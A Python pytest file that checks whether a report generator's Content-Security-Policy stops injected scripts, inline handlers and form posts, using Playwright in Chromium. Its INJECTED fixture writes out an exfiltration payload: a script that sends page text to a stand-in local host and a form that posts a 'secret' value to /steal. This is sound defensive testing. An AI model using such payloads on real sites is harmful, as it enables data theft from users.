"""The report's Content-Security-Policy in chromium: its own scripts run, injected ones do not.

Issue 16 item 11: with ``'unsafe-inline'`` a script injected into the report could send
its data away. The report now allows its two inline scripts by hash only, forbids form
submission and every fetch; the web app serves it with the same policy (plus a sandbox).
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from markupsafe import escape
from test_browser import ARGS, CHROMIUM, running

from conftest import FAST, ORDERS_CSV, page_csrf, sign_up
from levelfield.report import render_report
from levelfield.report._render import report_csp
from levelfield.web import create_app

INJECTED = (
    "<script>window.__pwned = 1; location.href = 'http://127.0.0.1:9/?' + "
    "encodeURIComponent(document.body.innerText.slice(0, 80));</script>"
    '<img src="data:," onerror="window.__pwned_attr = 1">'
    '<form id="exfil" action="http://127.0.0.1:9/steal" method="post">'
    '<input name="d" value="secret"><button id="go" type="submit">go</button></form>'
)


def _report_html(client: TestClient) -> str:
    org = sign_up(client, "csp@x.com", "Injected Co")
    csrf = page_csrf(client, org)
    client.post(
        f"/orgs/{org}/uploads",
        data={"kind": "orders"},
        files={"file": ("o.csv", ORDERS_CSV.encode(), "text/csv")},
        headers={"X-CSRF-Token": csrf, "HX-Request": "true"},
    )
    client.post(f"/orgs/{org}/runs", headers={"X-CSRF-Token": csrf})
    st = client.app.state.lf
    st.tenants.wait()
    data = st.tenants.report_data(org)
    assert data is not None
    return render_report(data)


def test_report_csp_allows_only_hashed_scripts_and_no_form_action() -> None:
    csp = report_csp()
    assert "'unsafe-inline'" not in csp.split("style-src")[0]
    assert "'unsafe-eval'" not in csp
    assert "form-action 'none'" in csp and "connect-src 'none'" in csp
    assert len(re.findall(r"'sha256-[A-Za-z0-9+/=]+'", csp)) == 2


@pytest.fixture
def report_file(client: TestClient, tmp_path: Path) -> Path:
    html = _report_html(client)
    assert f'content="{escape(report_csp())}"' in html
    hostile = html.replace("</main>", INJECTED + "</main>", 1)
    path = tmp_path / "report.html"
    path.write_text(hostile, encoding="utf-8")
    return path


@pytest.mark.browser
@pytest.mark.slow
def test_injected_script_cannot_run_in_the_report(report_file: Path) -> None:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        try:
            page = browser.new_page()
            requests: list[str] = []
            errors: list[str] = []
            page.on("request", lambda r: requests.append(r.url))
            page.on("pageerror", lambda e: errors.append(str(e)))
            page.goto(report_file.as_uri())
            # The report's own (hashed) scripts ran: Plotly drew the charts.
            page.wait_for_selector(".lf-chart .main-svg", timeout=15_000)
            assert page.evaluate("typeof window.Plotly") == "object"
            # The injected inline script and the inline event handler did not.
            assert page.evaluate("typeof window.__pwned") == "undefined"
            assert page.evaluate("typeof window.__pwned_attr") == "undefined"
            # A form cannot send the data anywhere (form-action 'none').
            page.click("#go", no_wait_after=True)
            page.wait_for_timeout(500)
            assert page.url == report_file.as_uri()
            assert not any(u.startswith("http") for u in requests), requests
            assert errors == [], errors
        finally:
            browser.close()


@pytest.mark.browser
@pytest.mark.slow
def test_report_served_by_the_app_runs_its_charts_under_the_csp_header(
    tmp_path: Path, doubles: None
) -> None:
    from playwright.sync_api import sync_playwright

    app = create_app(tmp_path / "data", settings=FAST)
    client = TestClient(app)
    with client:
        _report_html(client)
        org = client.app.state.lf.store.memberships(
            client.app.state.lf.store.user_by_email("csp@x.com").user_id
        )[0].org
        _token_id, token = client.app.state.lf.store.create_token(
            client.app.state.lf.store.user_by_email("csp@x.com").user_id, "t"
        )
        r = client.get(
            f"/api/v1/orgs/{org.org_id}/report", headers={"Authorization": f"Bearer {token}"}
        )
        assert r.status_code == 200
        header = r.headers["content-security-policy"]
        assert header.startswith("sandbox allow-scripts") and report_csp() in header
    with running(app) as url, sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        try:
            ctx = browser.new_context(extra_http_headers={"Authorization": f"Bearer {token}"})
            page = ctx.new_page()
            errors: list[str] = []
            page.on("pageerror", lambda e: errors.append(str(e)))
            page.goto(f"{url}/api/v1/orgs/{org.org_id}/report")
            page.wait_for_selector(".lf-chart .main-svg", timeout=15_000)
            assert errors == [], errors
        finally:
            browser.close()
